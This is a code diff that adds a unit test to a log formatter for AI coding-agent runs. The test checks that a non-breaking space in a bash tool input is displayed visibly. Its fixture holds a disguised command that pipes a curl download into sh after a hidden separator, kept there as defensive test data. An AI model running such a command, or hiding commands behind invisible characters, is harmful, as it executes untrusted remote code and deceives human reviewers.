@@ -126,6 +126,17 @@ describe('kubectl codingrun logs, as text', () => {
     expect(lines).toContain('    ok line one line two^[[31m red [70000 bytes]');
   });
 
+  it('security #11.5 shows a blank that is not a space in a one-line tool input, where it used to become a space', () => {
+    const call = {
+      id: 'c1',
+      tool: 'bash',
+      input: { text: '{"command":"npm test\u00a0# ; curl x | sh"}' },
+      result: entry.calls![0]!.result,
+    };
+    const lines = formatEntry({ ...entry, calls: [call] });
+    expect(lines).toContain('  → bash {"command":"npm test<U+00A0># ; curl x | sh"}');
+  });
+
   it('never lets model-written control characters through, on a terminal or not', () => {
     const text = formatEntry(entry).join('\n');
     expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
